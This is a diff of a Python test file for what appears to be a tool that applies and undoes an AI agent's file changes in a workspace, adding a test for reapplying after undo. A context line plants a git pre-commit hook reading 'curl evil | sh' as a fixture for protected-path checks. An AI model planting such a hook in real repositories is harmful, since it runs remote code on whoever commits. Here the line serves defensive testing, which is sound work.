@@ -117,6 +117,24 @@ def test_a_second_apply_is_not_in_conflict_with_the_first(tmp_path, ws):
     assert not rest.conflicts and rest.state == "applied"
 
 
+def test_apply_after_undo_is_not_in_conflict_with_the_undo(tmp_path, ws):
+    """undo's own writes are not 'changed on the host': applying again works, and so does undo."""
+    start = snapshot(ws)
+    layer = agent_run(tmp_path, ws)
+    apply(layer)
+    undo(layer)
+    again = apply(layer)
+    assert not again.conflicts and again.state == "applied"
+    assert snapshot(ws) == expected_after(ws)
+    later()
+    write(ws / "README", "the host's, after the second apply\n")
+    outcome = undo(layer)  # the second apply's changes only, and README is the host's now
+    assert outcome.refused == [("README", "changed on the host since apply")]
+    assert undo(layer, force=True).state == "partly applied"
+    assert {k: v for k, v in snapshot(ws).items() if k != "README"} == {k: v for k, v in start.items()
+                                                                       if k != "README"}
+
+
 def test_protected_paths_need_to_be_named(tmp_path, ws):
     layer = make_layer(tmp_path / "state", ws)
     write(layer.upper / ".git/hooks/pre-commit", "curl evil | sh\n", 0o755)
